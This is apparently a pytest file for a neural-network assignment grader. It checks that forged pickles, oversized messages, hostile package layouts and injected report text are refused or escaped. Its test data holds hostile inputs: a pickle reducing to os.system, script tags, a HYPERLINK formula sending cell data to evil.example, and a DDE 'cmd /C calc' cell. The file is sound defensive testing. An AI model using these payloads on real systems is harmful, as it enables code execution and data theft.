"""The grader bounds and cleans what it receives: forged pickles, huge and hostile messages, hostile package
layouts, and every report written whole and well-formed.

The first part checks the pieces (``unpickle``, ``escape``, the writers, the frameworks scan) directly. The second
grades each attack in tests/hostile/ named report_*, huge_*, layout_* and forged_* through ``python -m
nnspec.grade`` with every report asked for, in a copy inside a temporary folder, under a parent that adopts
orphans (so a process left behind is seen), and checks: the cheat gains nothing, the grader was not killed,
every report is complete and well-formed, no process is left behind, nothing outside the temporary folder changed.
"""

from __future__ import annotations

import argparse
import csv
import json
import os
import pickle
import shutil
import subprocess
import sys
import tracemalloc
import xml.etree.ElementTree as ET
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import jsonschema
import numpy as np
import pytest

from nnspec.grade import batch, cli, config, escape, frameworks, reports, unpickle, wire
from nnspec.grade.runner import GradeRun, RequirementResult
from spec.requirements import Requirement
from tests.hostile_checks import listing
from tests.test_grader import GRADESCOPE_SCHEMA, HOSTILE_REQUIREMENTS

REPOSITORY = Path(__file__).resolve().parents[1]
HOSTILE = REPOSITORY / "tests" / "hostile"
LIMIT = 1 << 20  # the message size the unit tests allow
ALLOCATION_SLACK = 1 << 18  # bookkeeping of decoding, on top of the message and the arrays it may hold
REPORT_BYTES = 200_000  # no report of a 4-requirement grading comes near this, whatever the submission said
GRADER_TIMEOUT_S = 300  # a grading that has not ended by then has hung (the tests do not time the grader)


# --- forged pickles ------------------------------------------------------------------------------------------------


class Reduce:
    """Pickles as ``function(*args)`` (``function`` named by module and name), without calling it here."""

    def __init__(self, function: Any, *args: Any) -> None:
        self.function, self.args = function, args

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.function, self.args)


class Rebuilt:
    """Pickles as ``function(*args)`` followed by BUILD ``state``."""

    def __init__(self, function: Any, args: tuple[Any, ...], state: Any) -> None:
        self.function, self.args, self.state = function, args, state

    def __reduce__(self) -> tuple[Any, ...]:
        return (self.function, self.args, self.state)


def frames_of(value: Any) -> list[bytearray]:
    return [bytearray(frame) for frame in wire.encode(value)]


def decode_small(frames: list[bytearray]) -> tuple[Any, int]:
    """(what ``unpickle.decode`` raised or returned, the peak of what it allocated)."""
    tracemalloc.start()
    try:
        try:
            result: Any = unpickle.decode(frames, LIMIT)
        except pickle.UnpicklingError as error:
            result = error
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


SHARED_DATA = bytes(2**17)  # one bytes object: the pickle holds it once, every array built from it copies it
FROMBUFFER = np._core.numeric._frombuffer  # type: ignore[attr-defined]
RECONSTRUCT = np._core.multiarray._reconstruct


def reconstructed(shape: tuple[int, ...], dtype: Any, data: Any) -> Rebuilt:
    """An array as NumPy pickles a non-contiguous one: _reconstruct(ndarray, (0,), b"b"), then BUILD its state."""
    return Rebuilt(RECONSTRUCT, (np.ndarray, (0,), b"b"), (1, shape, dtype, False, data))


FORGED = {  # name: (the value a worker's pickle holds, text of the refusal; None: accepted as what it really is)
    "ndarray called": (Reduce(np.ndarray, (2**30,), "f8"), "calls numpy.ndarray"),
    "frombuffer larger than its buffer": (Reduce(FROMBUFFER, b"", np.dtype("f8"), (2**30,), "C"), "more than the"),
    "reconstruct with a huge shape": (reconstructed((2**30,), np.dtype("f8"), b""), "more than the"),
    "reconstruct with short data": (reconstructed((4,), np.dtype("f8"), b"x"), "sent with 1 bytes"),
    "reconstruct of another class": (Reduce(RECONSTRUCT, np.matrix, (0,), b"b"), "forbidden"),
    "object dtype": (reconstructed((1,), np.dtype("O"), bytes(8)), "dtype 'O"),
    "object flag forged on a void dtype": (
        reconstructed((1,), Rebuilt(np.dtype, ("V8", False, True), (3, "|", None, None, None, 8, 1, 0x3f)), bytes(8)),
        None),
    "huge void scalar": (Reduce(np._core.multiarray.scalar, np.dtype("V1000"), b""), "is not 1000 bytes"),
    "shared array counted where it appears": ([np.zeros(2**14)] * 100, "bytes allowed"),
    "shared data copied where it appears": ([reconstructed((2**14,), np.dtype("f8"), SHARED_DATA) for _ in range(100)],
                                            "allowed"),
    "a list containing itself": (None, "contains itself"),
    "deep nesting": (None, "nested more than"),
    "a forbidden global": (Reduce(os.system, "true"), "forbidden type"),
}


def forged_frames(name: str) -> list[bytearray]:
    """The frames of the forged message ``name`` (hand-written opcodes where pickling cannot make them)."""
    if name == "a list containing itself":
        return [bytearray(pickle.PROTO + bytes([5]) + pickle.EMPTY_LIST + pickle.MEMOIZE + pickle.BINGET + b"\x00"
                          + pickle.APPEND + pickle.STOP)]
    if name == "deep nesting":
        depth = 10_000
        return [bytearray(pickle.PROTO + bytes([5]) + pickle.EMPTY_LIST * depth + pickle.APPEND * (depth - 1)
                          + pickle.STOP)]
    return [bytearray(pickle.dumps(("result", FORGED[name][0], {}), protocol=5))]


@pytest.mark.parametrize("name", sorted(FORGED))
def test_a_forged_message_is_refused_without_allocating(name: str) -> None:
    frames = forged_frames(name)
    result, peak = decode_small(frames)
    text = FORGED[name][1]
    if text is None:  # a harmless value: the forged flag is ignored, the dtype rebuilt as what it says it is
        assert not result[1].dtype.hasobject and result[1].dtype == np.dtype("V8")
    else:
        assert isinstance(result, pickle.UnpicklingError) and text in str(result), result
    assert peak < sum(len(frame) for frame in frames) + LIMIT + ALLOCATION_SLACK


@pytest.mark.parametrize("value", [
    np.arange(6.0).reshape(2, 3), np.arange(6.0)[::2], np.asfortranarray(np.ones((3, 4))), np.zeros((0, 3)),
    np.zeros(2, dtype=[("a", "f8"), ("b", "i4")]), np.zeros(2, dtype=np.dtype([("a", "f8"), ("b", "i1")], align=True)),
    np.zeros(2, dtype=("f4", (2, 3))), np.array(["2020-01-01"], dtype="M8[5s]"), np.arange(3, dtype=">i2"),
    np.array(["abc"]), np.array(2.0), np.zeros(100_000), np.float32(1.5), np.str_("hi"), np.bool_(True),
    {1, 2}, frozenset({np.float64(1.0)}), 1 + 2j, wire.Handle(1, 2, "Cache"),
    wire.RemoteError("E", ("ValueError",), "m", ("line",), False), wire.RngState({"state": {"key": [1, 2]}}),
])
def test_every_value_a_worker_sends_is_rebuilt_as_numpy_would(value: Any) -> None:
    frames = frames_of(("result", value, {}))
    expected = pickle.loads(frames[0], buffers=frames[1:])[1]
    got = unpickle.decode(frames, LIMIT)[1]
    assert repr(got) == repr(expected) and type(got) is type(expected)
    if isinstance(value, np.ndarray):
        assert got.dtype == expected.dtype and got.flags.writeable == expected.flags.writeable
        assert (got.flags.c_contiguous, got.flags.f_contiguous) == (expected.flags.c_contiguous,
                                                                    expected.flags.f_contiguous)


def test_an_array_sent_twice_is_one_array_and_read_only_stays_read_only() -> None:
    x = np.ones(3)
    first, second = unpickle.decode(frames_of((x, x)), LIMIT)
    assert first is second
    x.flags.writeable = False
    assert not unpickle.decode(frames_of(x), LIMIT).flags.writeable


def test_an_exception_crossing_the_wire_is_cut_on_both_sides() -> None:
    error = wire.bounded(wire.RemoteError("E", ("Exception",), "m" * 50_000, ("l" * 300,) * 100, False))
    kept = wire.MESSAGE_CHARS - wire.CUT_NOTE_CHARS
    assert error.message == "m" * kept + f"... ({50_000 - kept} more characters)"
    assert len("\n".join(error.traceback)) <= wire.MESSAGE_CHARS and error.traceback[-1].endswith("more characters)")
    assert wire.bounded(error) == error  # the grader cuts again what the worker cut: no change


# --- the cleaning rules and the writers ----------------------------------------------------------------------------

HOSTILE_TEXT = ("\x1b[2J\x00\r\x07\x9b\ud800\u202e\ufffe ```\n## nnspec grade: `x`\n**Score: 34 / 34**\n```\n"
                "<script>alert(1)</script></details>")


def test_the_cleaning_rules() -> None:
    cleaned = escape.text(HOSTILE_TEXT)
    assert not escape.UNSAFE.search(cleaned) and cleaned.encode("utf-8")
    assert cleaned.startswith("\\x1b[2J\\x00\\x0d\\x07\\x9b\\ud800\\u202e\\ufffe")
    assert "\n" not in escape.one_line("a\nb\tc") and escape.one_line("a\nb") == "a\\x0ab"
    assert escape.cut("x" * 120, 100) == "x" * 60 + "... (60 more characters)"
    assert escape.csv_cell("=1+2") == "'=1+2" and escape.csv_cell("-2") == "'-2" and escape.csv_cell(3) == 3
    assert escape.csv_cell("\t=1") == "\\x09=1" and escape.csv_cell("a.py") == "a.py"
    assert escape.html("<b>&</b>") == "&lt;b&gt;&amp;&lt;/b&gt;"
    assert escape.inline_code("a``b") == "``` a``b ```"


def outside_code(markdown: str) -> list[str]:
    """The lines of ``markdown`` outside fenced code blocks (CommonMark: a fence closes on a run of at least as
    many backticks as opened it)."""
    lines, fence = [], ""
    for line in markdown.splitlines():
        stripped = line.strip()
        if fence:
            if stripped.startswith(fence) and set(stripped) == {"`"}:
                fence = ""
        elif stripped.startswith("```"):
            fence = stripped[:len(stripped) - len(stripped.lstrip("`"))]
        else:
            lines.append(line)
    assert not fence, "a code fence is left open"
    return lines


def hostile_report(loaded: bool) -> reports.Report:
    requirement = Requirement("ACT-X", "x holds", "doc")
    results = [RequirementResult(requirement, "failed", HOSTILE_TEXT * 3, 0.1, 1),
               RequirementResult(Requirement("ACT-Y", "y", "doc"), "skipped", HOSTILE_TEXT, 0.0, 1)]
    run = GradeRun("sub\n## fake.py", "sub.py", loaded, "" if loaded else HOSTILE_TEXT, results if loaded else [],
                   output_head=HOSTILE_TEXT)
    return reports.build(run, config.load())


@pytest.mark.parametrize("loaded", [True, False])
def test_every_writer_escapes_what_the_submission_wrote(loaded: bool) -> None:
    report = hostile_report(loaded)
    texts = {"terminal": reports.terminal(report), "json": reports.dumps_json(reports.to_json(report)),
             "gradescope": json.dumps(reports.gradescope(report)), "junit": reports.junit(report),
             "markdown": reports.markdown(report)}
    for name, text in texts.items():
        assert not escape.UNSAFE.search(text), name
        text.encode("utf-8")  # no lone surrogate left
    ET.fromstring(texts["junit"])
    jsonschema.validate(reports.gradescope(report), GRADESCOPE_SCHEMA)
    assert "\n**Score" not in texts["terminal"] and "\n## " not in texts["terminal"]  # indented, not ours
    visible = outside_code(texts["markdown"])
    assert sum(line.startswith("## ") for line in visible) == 1
    assert not any("Score: 34" in line or "<script" in line for line in visible)


def test_a_failing_writer_costs_only_its_own_report(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], monkeypatch: pytest.MonkeyPatch
) -> None:
    report = hostile_report(True)
    paths = {name: tmp_path / name for name in ("r.json", "results.json", "summary.md")}
    args = argparse.Namespace(json=str(paths["r.json"]), gradescope=str(paths["results.json"]),
                                  junit=str(tmp_path / "no-such-folder" / "junit.xml"))
    monkeypatch.setenv(cli.SUMMARY_ENV, str(paths["summary.md"]))
    assert not cli.write_reports(report, args)
    assert all(path.stat().st_size > 0 for path in paths.values())
    assert "the JUnit" in capsys.readouterr().err


# --- the frameworks scan -------------------------------------------------------------------------------------------

LAYOUTS: dict[str, Callable[[Path], object]] = {  # layout package -> what the test adds to its copy
    "layout_data_dir": lambda package: None,
    "layout_fifo": lambda package: os.mkfifo(package / "x.py"),
    "layout_symlink_out": lambda package: (package / "helper.py").symlink_to(package.parent / "outside_torch.py"),
    "layout_huge_py": lambda package: (package / "weights.py").write_text(
        "WEIGHTS = [\n" + "0.0,\n" * 500_000 + "]\n\n\ndef load():\n    import torch\n"),
}
LAYOUT_FINDINGS = {"layout_data_dir": None, "layout_fifo": "not a regular file",
                   "layout_symlink_out": "outside the submission", "layout_huge_py": "larger than"}


def copy_submission(name: str, folder: Path) -> Path:
    """A copy of the package tests/hostile/``name`` (plus what its layout adds) or of ``name``.py in ``folder``."""
    source = HOSTILE / name if (HOSTILE / name).is_dir() else HOSTILE / f"{name}.py"
    target = folder / source.name
    if source.is_dir():
        shutil.copytree(source, target, symlinks=True)
        (folder / "outside_torch.py").write_text("import torch\n")
        LAYOUTS[name](target)
    else:
        shutil.copyfile(source, target)
    return target


@pytest.mark.parametrize("name", sorted(LAYOUTS))
def test_the_frameworks_scan_reads_only_regular_files_inside_the_package(tmp_path: Path, name: str) -> None:
    package = copy_submission(name, tmp_path)
    message = frameworks.check(str(package), [], ["torch"])
    finding = LAYOUT_FINDINGS[name]
    if finding is None:
        assert message == ""
    else:  # the finding, and nothing read from what lies outside or is too large
        assert finding in message and "imports torch" not in message


# --- the attacks, graded end to end --------------------------------------------------------------------------------

ADOPTER = r"""
import ctypes, json, os, signal, subprocess, sys
ctypes.CDLL(None, use_errno=True).prctl(36, 1, 0, 0, 0)  # PR_SET_CHILD_SUBREAPER: orphans come to us
code = subprocess.call(sys.argv[2:])
left = []
for pid in filter(str.isdigit, os.listdir("/proc")):
    try:
        state, ppid = open(f"/proc/{pid}/stat").read().rsplit(")", 1)[1].split()[:2]
    except OSError:
        continue
    if int(ppid) == os.getpid():
        if state != "Z":  # a zombie has ended; anything else outlived the grader
            left.append(int(pid))
        os.kill(int(pid), signal.SIGKILL)
with open(sys.argv[1], "w") as out:
    json.dump({"exit": code, "left": left}, out)
"""


@dataclass
class Attack:
    """What grading a hostile submission must give: exit code, statuses, and a text in the relevant message."""

    exit_code: int
    statuses: dict[str, str]
    text: str
    # the requirement whose message holds ``text`` ("load_error": the load error). ACT-PURE calls relu once: its
    # message is the same however many calls the search of ACT-RELU-VALUES fits into its time budget.
    where: str = "ACT-RELU-VALUES"
    roster: bool = False  # also grade it in batch mode under a formula's name, and check the roster


RELU_FAILS = {"ACT-SIGMOID-VALUES": "passed", "ACT-RELU-VALUES": "failed"}
FORGED_FAILS = {"ACT-RELU-VALUES": "failed"}  # a forged_* submission has relu only
CUT_40MB = f"... ({40_000_000 - wire.MESSAGE_CHARS + wire.CUT_NOTE_CHARS} more characters)"  # cut once, not twice
RULE_FAILS = {"ACT-RELU-VALUES": "passed", "IMPL-NO-FRAMEWORKS": "failed"}
ATTACKS = {
    "report_control_chars": Attack(1, RELU_FAILS, "\\x1b[2J\\x1b[H\\x1b[32mscore: 34 / 34\\x1b[0m\\x00\\x0d"),
    "report_lone_surrogate": Attack(1, RELU_FAILS, "broken \\ud800 text \\udfff with \\ufffe"),
    "report_fence_heading": Attack(2, {}, "**Score: 34 / 34**", where="load_error"),
    "report_html_script": Attack(1, RELU_FAILS, '<script>alert("pwned")</script>'),
    "report_csv_formula": Attack(1, RELU_FAILS, "=HYPERLINK(", roster=True),
    "huge_message_40mb": Attack(1, RELU_FAILS, CUT_40MB, where="ACT-PURE"),
    "huge_message_2mb": Attack(1, RELU_FAILS, "more characters)", where="ACT-PURE"),
    "huge_load_error": Attack(2, {}, "more characters)", where="load_error"),
    "huge_shared_result": Attack(1, RELU_FAILS, "bytes allowed"),
    "forged_huge_ndarray": Attack(1, FORGED_FAILS, "calls numpy.ndarray"),
    "forged_frame_count": Attack(1, FORGED_FAILS, f"a message of {2**64 - 1} frames"),
    "forged_deep_nesting": Attack(1, FORGED_FAILS, "nested more than"),
    "forged_huge_error": Attack(1, FORGED_FAILS, CUT_40MB),  # the worker's cut bypassed: the grader's own cut
    "layout_data_dir": Attack(1, {"ACT-RELU-VALUES": "passed", "IMPL-NO-FRAMEWORKS": "passed"}, ""),
    "layout_fifo": Attack(1, RULE_FAILS, "x.py: not checked: it is not a regular file", where="IMPL-NO-FRAMEWORKS"),
    "layout_symlink_out": Attack(1, RULE_FAILS, "outside the submission", where="IMPL-NO-FRAMEWORKS"),
    "layout_huge_py": Attack(1, RULE_FAILS, "larger than", where="IMPL-NO-FRAMEWORKS"),
}
FORMULA_NAME = '=HYPERLINK("evil.example?"&A1,"grade").py'


@dataclass
class Graded:
    """One grading of an attack: its exit code, output, reports and leftovers."""

    exit_code: int
    stdout: str
    reports: dict[str, str] = field(default_factory=dict)
    left: list[int] = field(default_factory=list)


def grade_adopted(args: list[str], cwd: Path, scratch: Path, env: dict[str, str]) -> tuple[int, bytes, list[int]]:
    """Run ``python -m nnspec.grade ARGS`` under a parent that adopts orphans; (exit, stdout, leftover pids)."""
    verdict = scratch / "adopter.json"
    finished = subprocess.run(
        [sys.executable, "-c", ADOPTER, str(verdict), sys.executable, "-m", "nnspec.grade", *args],
        cwd=cwd, capture_output=True, check=False, timeout=GRADER_TIMEOUT_S,
        env={**os.environ, "TMPDIR": str(scratch / "tmp"), **env},
    )
    outcome = json.loads(verdict.read_text())
    return outcome["exit"], finished.stdout, outcome["left"]


@pytest.fixture
def untouched_repository() -> Iterator[None]:
    before = listing(REPOSITORY)
    yield
    assert listing(REPOSITORY) == before, "the grading changed the repository"


def grade_attack(name: str, tmp_path: Path) -> Graded:
    """Grade tests/hostile/``name`` (copied into ``tmp_path``) with every report; check what holds for all."""
    folder, scratch, out = tmp_path / "submission", tmp_path / "scratch", tmp_path / "reports"
    for path in (folder, scratch, scratch / "tmp", out):
        path.mkdir()
    target = copy_submission(name, folder)
    before = listing(folder)
    paths = {kind: out / file for kind, file in (("json", "report.json"), ("gradescope", "results.json"),
                                                 ("junit", "junit.xml"), ("summary", "summary.md"))}
    selection = [arg for req in HOSTILE_REQUIREMENTS for arg in ("--requirement", req)]
    code, stdout, left = grade_adopted(
        [target.name, "--chapter", "activations", *selection, "--config", str(HOSTILE / "grading.toml"),
         "--json", str(paths["json"]), "--gradescope", str(paths["gradescope"]), "--junit", str(paths["junit"])],
        folder, scratch, {"GITHUB_STEP_SUMMARY": str(paths["summary"])})
    assert code in (0, 1, 2), f"the grader ended with {code} (killed, or crashed)"
    assert left == [], "processes outlived the grading"
    assert listing(folder) == before and listing(scratch / "tmp") == {}
    graded = Graded(code, stdout.decode("utf-8"), {kind: path.read_bytes().decode("utf-8")
                                                   for kind, path in paths.items()})
    check_reports(graded)
    return graded


def check_reports(graded: Graded) -> None:
    """Every report complete and well-formed, small, and free of characters that could forge or break it."""
    for kind, text in {"terminal": graded.stdout, **graded.reports}.items():
        assert not escape.UNSAFE.search(text), kind
        assert len(text.encode("utf-8")) < REPORT_BYTES, kind
    report = json.loads(graded.reports["json"])
    assert report["exit_code"] == graded.exit_code and "internal error" not in report["load_error"]
    ids = {requirement["id"] for requirement in report["requirements"]}
    assert set(HOSTILE_REQUIREMENTS) | {"IMPL-LOADS"} <= ids
    for requirement in report["requirements"]:
        assert not escape.UNSAFE.search(requirement["message"])
    gradescope = json.loads(graded.reports["gradescope"])
    jsonschema.validate(gradescope, GRADESCOPE_SCHEMA)
    assert len(gradescope["tests"]) == len(ids)
    assert len(list(ET.fromstring(graded.reports["junit"]).iter("testcase"))) == len(ids)
    visible = outside_code(graded.reports["summary"])
    assert sum(line.startswith("## ") for line in visible) == 1
    assert sum("Score:" in line for line in visible) == (1 if report["loaded"] else 0)
    assert not any("<" in line and "<details>" not in line and "</details>" not in line for line in visible)


def roster_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as file:
        return [cell for row in csv.reader(file) for cell in row]


def check_roster(target: Path, tmp_path: Path) -> None:
    """Batch mode on ``target`` renamed to a formula: the name lands in the roster, inert."""
    renamed = target.with_name(FORMULA_NAME)
    target.rename(renamed)
    scratch = tmp_path / "batch"
    (scratch / "tmp").mkdir(parents=True)
    code, _, left = grade_adopted(
        [renamed.name, "--chapter", "activations", "--requirement", "ACT-RELU-VALUES",
         "--config", str(HOSTILE / "grading.toml"), "--roster", str(scratch / "roster.csv")],
        renamed.parent, scratch, {})
    assert code == 1 and left == []
    cells = roster_cells(scratch / "roster.csv")
    assert "'" + FORMULA_NAME in cells and not any(cell.startswith(escape.FORMULA_START) for cell in cells)


def test_the_roster_is_inert_in_a_spreadsheet_and_clean(tmp_path: Path) -> None:
    row = {field_name: 0 for field_name in batch.ROSTER_FIELDS}
    rows = [{**row, "submission": "=cmd|' /C calc'!A0", "error": "@SUM(1)\n+1\x00\ud800"},
            {**row, "submission": "-2+3.py", "error": ""}]
    batch._write_roster(tmp_path / "roster.csv", rows)
    cells = roster_cells(tmp_path / "roster.csv")
    assert not any(cell.startswith(escape.FORMULA_START) or escape.UNSAFE.search(cell) for cell in cells)
    assert "'@SUM(1)\\x0a+1\\x00\\ud800" in cells
    batch._write_roster(tmp_path / "roster.json", rows)
    written = json.loads((tmp_path / "roster.json").read_text(encoding="utf-8"))
    assert written[0]["error"] == "@SUM(1)\n+1\\x00\\ud800"


def test_the_attacks_are_all_in_the_corpus() -> None:
    prefixes = ("report_", "huge_", "layout_", "forged_")
    found = {path.stem for path in HOSTILE.iterdir() if path.name.startswith(prefixes)} - {"huge_allocation"}
    assert found == set(ATTACKS)


@pytest.mark.corpus
@pytest.mark.parametrize("name", sorted(ATTACKS))
def test_an_attack_on_the_reports_gains_nothing(name: str, tmp_path: Path, untouched_repository: None) -> None:
    attack = ATTACKS[name]
    graded = grade_attack(name, tmp_path)
    report = json.loads(graded.reports["json"])
    assert graded.exit_code == attack.exit_code
    got = {requirement["id"]: requirement for requirement in report["requirements"]}
    assert {req: got[req]["status"] for req in attack.statuses} == attack.statuses
    if attack.exit_code == 2:
        assert report["score"] == 0
    message = report["load_error"] if attack.where == "load_error" else got[attack.where]["message"]
    assert attack.text in message
    if attack.roster:
        check_roster(tmp_path / "submission" / f"{name}.py", tmp_path)
